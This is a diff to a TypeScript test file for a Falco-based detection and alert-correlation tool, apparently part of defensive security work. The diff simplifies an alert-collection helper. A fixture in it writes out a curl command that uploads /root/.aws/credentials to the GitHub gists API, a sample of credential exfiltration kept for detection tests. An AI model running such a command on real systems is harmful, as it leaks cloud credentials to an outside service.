@@ -14,7 +14,7 @@ import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { recognizeProcess } from '../../../src/rules/index.js';
 import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
 import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
-import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
+import { brief, runResolved } from '../correlate/builder.js';
 
 const norm = (text: string) => normalizeFalco(parseFalcoJson(text), { node: 'node-a' });
 /** The process of a Falco alert that normalizes to an activity event (never a gap here). */
@@ -93,11 +93,7 @@ function falcoRun(exepath: string, argv: readonly string[], ip: string | null): 
   return texts.map(norm).filter((e): e is NormalizedEvent => e !== null);
 }
 
-async function alertsOf(events: NormalizedEvent[]) {
-  const { correlator } = makeCorrelator({ resolveHost: testResolver });
-  await correlator.refreshDestinations();
-  return [...correlator.ingest(events), ...correlator.flush()];
-}
+const alertsOf = async (events: NormalizedEvent[]) => (await runResolved(events)).alerts;
 
 const paddedCurl = ['curl', '-sS', '-H', PAD, '-T', '/root/.aws/credentials', 'https://api.github.com/gists'];
 
